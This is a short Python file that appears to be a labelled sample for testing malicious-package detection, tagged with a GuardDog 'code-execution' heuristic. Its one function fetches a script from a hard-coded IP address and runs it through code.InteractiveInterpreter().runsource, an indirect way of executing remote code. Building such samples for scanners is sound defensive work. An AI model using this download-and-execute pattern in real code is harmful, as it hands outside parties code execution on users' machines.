# technique: code.InteractiveInterpreter().runsource(payload)
# class: reflection
# source: GuardDog "code-execution" heuristic family (indirect exec)
# declares: network
import code
import urllib.request


def remote_console():
    src = urllib.request.urlopen("http://45.61.136.11/c.py", timeout=5).read().decode()
    code.InteractiveInterpreter().runsource(src, "<c>", "exec")
